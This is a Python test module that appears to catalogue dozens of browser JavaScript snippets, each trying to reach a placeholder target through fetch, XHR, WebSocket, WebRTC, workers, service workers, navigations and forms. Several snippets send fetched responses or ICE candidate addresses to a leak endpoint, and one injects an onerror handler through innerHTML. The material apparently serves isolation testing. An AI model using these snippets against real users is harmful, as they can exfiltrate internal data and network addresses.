"""What the scripts of a page ask for."""

from files.tests.attacks.ways import Way
from files.tests.web import Reply

JAVASCRIPT = {"Content-Type": "text/javascript"}
WORKER_CODE = (
    "fetch('INSIDE?fetch').then(a => a.text())"
    ".then(text => fetch('PAGE/leak', {method: 'POST', body: 'SLUG ' + text}));"
)

REQUESTS = {
    "fetch": "fetch('INSIDE').then(a => a.text()).then(leak)",
    "fetch no-cors": "fetch('INSIDE', {mode: 'no-cors'})",
    "fetch with credentials": "fetch('INSIDE', {credentials: 'include'})"
    ".then(a => a.text()).then(leak)",
    "fetch keepalive": "fetch('INSIDE', {keepalive: true})"
    ".then(a => a.text()).then(leak)",
    "fetch put": "fetch('INSIDE', {method: 'PUT', body: 'a'})"
    ".then(a => a.text()).then(leak)",
    "fetch with a header": "fetch('INSIDE', {headers: {'X-Own': 'a'}})"
    ".then(a => a.text()).then(leak)",
    "fetch manual": "fetch('INSIDE', {redirect: 'manual'})"
    ".then(a => a.text()).then(leak)",
    "fetch no-store": "fetch('INSIDE', {cache: 'no-store'})"
    ".then(a => a.text()).then(leak)",
    "fetch force-cache": "fetch('INSIDE', {cache: 'force-cache'})"
    ".then(a => a.text()).then(leak)",
    "fetch local space": "fetch('INSIDE', {targetAddressSpace: 'local'})"
    ".then(a => a.text()).then(leak)",
    "fetch loopback space": "fetch('INSIDE', {targetAddressSpace: 'loopback'})"
    ".then(a => a.text()).then(leak)",
    "fetch a stream": "fetch('INSIDE', {method: 'POST', duplex: 'half', "
    "body: new Blob(['a']).stream()}).catch(() => 0)",
    "fetch of a request": "fetch(new Request('INSIDE', {referrer: ''}))"
    ".then(a => a.text()).then(leak)",
    "fetch by https": "fetch('https://HOST:PORT/SLUG')",
    "fetch later": "fetchLater('INSIDE', {activateAfter: 0})",
    "XHR": "let x = new XMLHttpRequest(); x.open('GET', 'INSIDE'); "
    "x.onload = () => leak(x.responseText); x.send()",
    "XHR at once": "let x = new XMLHttpRequest(); x.open('GET', 'INSIDE', false); "
    "x.send(); leak(x.responseText)",
    "XHR with credentials": "let x = new XMLHttpRequest(); x.open('POST', 'INSIDE'); "
    "x.withCredentials = true; x.onload = () => leak(x.responseText); x.send('a')",
    "XHR preflighted": "let x = new XMLHttpRequest(); x.open('DELETE', 'INSIDE'); "
    "x.send()",
    "EventSource": "new EventSource('INSIDE.events').onmessage = e => leak(e.data)",
    "EventSource with credentials": "new EventSource('INSIDE.events', "
    "{withCredentials: true}).onmessage = e => leak(e.data)",
    "sendBeacon": "navigator.sendBeacon('INSIDE', 'a')",
    "sendBeacon of a blob": "navigator.sendBeacon('INSIDE', new Blob(['a'], "
    "{type: 'text/plain'}))",
    "WebSocket": "new WebSocket('ws://HOST:PORT/SLUG')",
    "WebSocket by TLS": "new WebSocket('wss://HOST:PORT/SLUG')",
    "WebSocket with a protocol": "new WebSocket('ws://HOST:PORT/SLUG', 'chat')",
    "WebSocket by http": "new WebSocket('INSIDE')",
    "WebSocketStream": "new WebSocketStream('ws://HOST:PORT/SLUG')",
    "WebTransport": "new WebTransport('https://HOST:PORT/SLUG')",
    "WebTransport with a hash": "new WebTransport('https://HOST:PORT/SLUG', "
    "{serverCertificateHashes: [{algorithm: 'sha-256', "
    "value: new Uint8Array(32)}]})",
    "TCPSocket": "new TCPSocket('HOST', PORT)",
    "UDPSocket": "new UDPSocket({remoteAddress: 'HOST', remotePort: PORT})",
    "Image": "new Image().src = 'INSIDE.png'",
    "Image decoded": "let i = new Image(); i.src = 'INSIDE.png'; i.decode()",
    "Image on a canvas": "let i = new Image(); i.crossOrigin = 'anonymous'; "
    "i.onload = () => { let c = document.createElement('canvas').getContext('2d'); "
    "c.drawImage(i, 0, 0); leak(c.canvas.toDataURL()) }; i.src = 'INSIDE.png'",
    "Audio": "new Audio('INSIDE.mp3').play()",
    "FontFace": "new FontFace('a', 'url(INSIDE.woff2)').load()",
    "import()": "import('INSIDE.mjs').then(module => leak(module.default))",
    "import() of css": "import('INSIDE.css', {with: {type: 'css'}})",
    "import() of json": "import('INSIDE.json', {with: {type: 'json'}})",
    "document.write": "document.write('<img src=INSIDE.png>')",
    "innerHTML": "document.documentElement.innerHTML = "
    "'<img src=x onerror=\"fetch(`INSIDE`)\">'",
    "setHTMLUnsafe": "document.documentElement.setHTMLUnsafe('<img src=INSIDE.png>')",
    "DOMParser": "document.documentElement.append(new DOMParser().parseFromString("
    "'<img src=INSIDE.png>', 'text/html').querySelector('img'))",
    "constructed style": "let s = new CSSStyleSheet(); s.replaceSync("
    "'html { background: url(INSIDE.png) }'); document.adoptedStyleSheets = [s]",
    "eval": "eval('fetch(`INSIDE`)')",
    "speculation rules prefetch": "let s = document.createElement('script'); "
    "s.type = 'speculationrules'; s.text = JSON.stringify({prefetch: [{urls: "
    "['INSIDE.html'], eagerness: 'immediate'}]}); document.head.append(s)",
    "speculation rules prerender": "let s = document.createElement('script'); "
    "s.type = 'speculationrules'; s.text = JSON.stringify({prerender: [{urls: "
    "['INSIDE.html'], eagerness: 'immediate'}]}); document.head.append(s)",
    "payment handler": "new PaymentRequest([{supportedMethods: 'INSIDE.json'}], "
    "{total: {label: 'a', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()",
    "federated login": "navigator.credentials.get({identity: {providers: [{"
    "configURL: 'https://HOST:PORT/SLUG.json', clientId: 'a'}]}})",
    "protocol handler": "navigator.registerProtocolHandler('web+a', 'INSIDE?%s'); "
    "location = 'web+a:b'",
    "background fetch": "navigator.serviceWorker.ready.then(r => "
    "r.backgroundFetch.fetch('a', ['INSIDE']))",
    "media source": "let m = document.createElement('video'); m.src = 'INSIDE.mp4'; "
    "m.play()",
    "remote playback": "let m = document.createElement('video'); "
    "m.src = 'INSIDE.m3u8'; m.remote.watchAvailability(() => 0)",
    "shared storage": "sharedStorage.worklet.addModule('INSIDE.js')",
    "audio worklet": "new AudioContext().audioWorklet.addModule('INSIDE.js')",
    "paint worklet": "CSS.paintWorklet.addModule('INSIDE.js')",
    "attribution": "document.documentElement.innerHTML = "
    "'<img attributionsrc=INSIDE src=data:,>'",
    "interest group": "navigator.joinAdInterestGroup({owner: 'https://HOST:PORT', "
    "name: 'a', biddingLogicURL: 'https://HOST:PORT/SLUG.js'}, 99)",
    "cache": "caches.open('a').then(cache => cache.add('INSIDE'))"
    ".then(() => caches.match('INSIDE')).then(a => a.text()).then(leak)",
    "compiled": "WebAssembly.compileStreaming(fetch('INSIDE.wasm'))",
    "reporting observer": "let f = document.createElement('iframe'); f.csp = "
    "\"img-src 'none'; report-uri INSIDE\"; f.src = 'PAGE/'; "
    "document.documentElement.append(f)",
    "ping": "let a = document.createElement('a'); a.href = '#'; a.ping = 'INSIDE'; "
    "a.click()",
    "download": "let a = document.createElement('a'); a.href = 'INSIDE.zip'; "
    "a.download = ''; a.click()",
}

GOING = {
    "location": "location = 'INSIDE.html'",
    "location.href": "location.href = 'INSIDE.html'",
    "location.assign": "location.assign('INSIDE.html')",
    "location.replace": "location.replace('INSIDE.html')",
    "location host": "location.host = 'HOST:PORT'",
    "location on load": "onload = () => { location = 'INSIDE.html' }",
    "location on error": "onerror = () => { location = 'INSIDE.html' }; nothing.there",
    "location later": "setTimeout(() => { location = 'INSIDE.html' }, 50)",
    "top location": "top.location = 'INSIDE.html'",
    "navigation.navigate": "navigation.navigate('INSIDE.html')",
    "open in self": "open('INSIDE.html', '_self')",
    "open": "open('INSIDE.html')",
    "open noopener": "open('INSIDE.html', '_blank', 'noopener,noreferrer')",
    "open a window": "open('INSIDE.html', 'a', 'popup,width=99,height=99')",
    "open and write": "let w = open(''); "
    "w.document.write('<img src=INSIDE.png><script>fetch(`INSIDE`)<\\/script>')",
    "open and go": "let w = open('about:blank'); w.location = 'INSIDE.html'",
    "open a blob": "open(URL.createObjectURL(new Blob(['<img src=INSIDE.png>'], "
    "{type: 'text/html'})))",
    "link": "let a = document.createElement('a'); a.href = 'INSIDE.html'; a.click()",
    "link to a tab": "let a = document.createElement('a'); a.href = 'INSIDE.html'; "
    "a.target = '_blank'; a.click()",
    "link area": "document.write('<map><area href=INSIDE.html></map>'); "
    "document.querySelector('area').click()",
    "form get": "document.write('<form action=INSIDE.html><input name=a></form>'); "
    "document.forms[0].submit()",
    "form post": "document.write('<form method=post action=INSIDE.html>"
    "<input name=a></form>'); document.forms[0].submit()",
    "form multipart": "document.write('<form method=post action=INSIDE.html "
    "enctype=multipart/form-data><input name=a></form>'); "
    "document.forms[0].submit()",
    "form plain": "document.write('<form method=post action=INSIDE.html "
    "enctype=text/plain><input name=a></form>'); document.forms[0].requestSubmit()",
    "form to a tab": "document.write('<form target=_blank action=INSIDE.html>"
    "<input name=a></form>'); document.forms[0].submit()",
    "form button": "document.write('<form><button formaction=INSIDE.html></form>'); "
    "document.querySelector('button').click()",
    "javascript url": "location = 'javascript:fetch(\"INSIDE\")'",
    "javascript url that loads": "location = 'javascript:`<img src=INSIDE.png>`'",
    "frame of a blob": "let f = document.createElement('iframe'); "
    "f.src = URL.createObjectURL(new Blob(['<script>fetch(`INSIDE`)<\\/script>'], "
    "{type: 'text/html'})); document.documentElement.append(f)",
    "frame of about:blank": "let f = document.createElement('iframe'); "
    "document.documentElement.append(f); f.contentWindow.fetch('INSIDE')"
    ".then(a => a.text()).then(leak)",
    "frame in a frame": "let f = document.createElement('iframe'); "
    "document.documentElement.append(f); let g = f.contentDocument.createElement("
    "'iframe'); f.contentDocument.documentElement.append(g); "
    "g.contentWindow.location = 'INSIDE.html'",
    "frame without an owner": "let f = document.createElement('iframe'); "
    "document.documentElement.append(f); let get = f.contentWindow.fetch; "
    "f.remove(); get('INSIDE'); fetch('INSIDE')",
    "frame of data that goes": "let f = document.createElement('iframe'); "
    "f.src = 'data:text/html,<script>location=\"INSIDE.html\"</scr' + 'ipt>'; "
    "document.documentElement.append(f)",
    "history": "history.replaceState(0, '', '/a'); location = 'INSIDE.html'",
    "unload": "onpagehide = () => navigator.sendBeacon('INSIDE', 'a'); "
    "location = 'PAGE/'",
}

PEERS = {
    "STUN": "stun:HOST:PORT",
    "STUN by TCP": "stun:HOST:PORT?transport=tcp",
    "STUN by TLS": "stuns:HOST:PORT",
    "TURN": "turn:HOST:PORT",
    "TURN by UDP": "turn:HOST:PORT?transport=udp",
    "TURN by TCP": "turn:HOST:PORT?transport=tcp",
    "TURN by TLS": "turns:HOST:PORT?transport=tcp",
    "TURN by DTLS": "turns:HOST:PORT?transport=udp",
}
PEER = """
let p = new RTCPeerConnection({iceServers:
  [{urls: 'SERVER', username: 'a', credential: 'b'}]});
p.onicecandidate = e => { if (e.candidate?.address) leak(e.candidate.address) };
p.createDataChannel('a');
p.createOffer().then(offer => p.setLocalDescription(offer));
"""
CANDIDATES = {
    "UDP candidate": "1 1 udp 2122260223 HOST PORT typ host",
    "TCP candidate": "1 1 tcp 1518280447 HOST PORT typ host tcptype passive",
    "mDNS candidate": "1 1 udp 2122260223 way-SLUG.local PORT typ host",
    "reflexive candidate": "1 1 udp 1686052607 HOST PORT typ srflx raddr 0.0.0.0 "
    "rport 0",
}
CANDIDATE = """
let p = new RTCPeerConnection(), q = new RTCPeerConnection();
p.createDataChannel('a');
p.createOffer().then(async offer => {
  await p.setLocalDescription(offer);
  await q.setRemoteDescription(offer);
  await q.setLocalDescription(await q.createAnswer());
  await p.setRemoteDescription(q.localDescription);
  await p.addIceCandidate({candidate: 'candidate:LINE', sdpMid: '0'});
});
"""

BLOB = "URL.createObjectURL(new Blob([`CODE`], {type: 'text/javascript'}))"
WORKERS = {
    "worker that fetches": WORKER_CODE,
    "worker with XHR": "let x = new XMLHttpRequest(); x.open('GET', 'INSIDE', false);"
    " x.send()",
    "worker with a WebSocket": "new WebSocket('ws://HOST:PORT/SLUG')",
    "worker with EventSource": "new EventSource('INSIDE')",
    "worker that imports scripts": "importScripts('INSIDE.js')",
    "worker that imports": "import('INSIDE.mjs')",
    "worker with a worker": "new Worker(URL.createObjectURL("
    "new Blob(['fetch(\"INSIDE\")'])))",
    "worker with WebTransport": "new WebTransport('https://HOST:PORT/SLUG')",
    "worker with a font": "new FontFace('a', 'url(INSIDE.woff2)').load()",
}
SERVICES = {
    "service worker": WORKER_CODE,
    "service worker with a WebSocket": "new WebSocket('ws://HOST:PORT/SLUG')",
    "service worker that imports": "importScripts('INSIDE.js')",
    "service worker installed": "oninstall = e => e.waitUntil(fetch('INSIDE'))",
    "service worker activated": "onactivate = e => e.waitUntil(fetch('INSIDE'))",
    "service worker that caches": "oninstall = e => e.waitUntil("
    "caches.open('a').then(cache => cache.addAll(['INSIDE'])))",
    "service worker that answers": "oninstall = () => skipWaiting();"
    "onactivate = e => e.waitUntil(clients.claim());"
    "onfetch = e => e.respondWith(fetch('INSIDE'))",
}
REGISTER = (
    "navigator.serviceWorker.register('OWN.js', {scope: 'OWN'});"
    "navigator.serviceWorker.oncontrollerchange = () => fetch('OWN.page')"
    ".then(a => a.text()).then(leak)"
)


def script(name: str, code: str, **files: str) -> Way:
    replies = {
        f".{suffix}": Reply(body=body, headers=JAVASCRIPT)
        for suffix, body in files.items()
    }
    # A function of its own, so that `let` and a name such as `open` do not clash.
    return Way(name=name, body=f"<script>{{{code}}}</script>", files=replies)


WAYS = [
    *(script(name, code) for name, code in {**REQUESTS, **GOING}.items()),
    *(script(name, PEER.replace("SERVER", url)) for name, url in PEERS.items()),
    *(
        script(name, CANDIDATE.replace("LINE", line))
        for name, line in CANDIDATES.items()
    ),
    *(
        script(f"{name}, of a blob", f"new Worker({BLOB.replace('CODE', code)})")
        for name, code in WORKERS.items()
    ),
    *(
        script(f"{name}, of a file", "new Worker('OWN.js')", js=code)
        for name, code in WORKERS.items()
    ),
    *(
        script(f"shared {name}", "new SharedWorker('OWN.js')", js=code)
        for name, code in WORKERS.items()
    ),
    script(
        "module worker",
        "new Worker('OWN.js', {type: 'module'})",
        js="import 'INSIDE.mjs'",
    ),
    *(script(name, REGISTER, js=code) for name, code in SERVICES.items()),
]
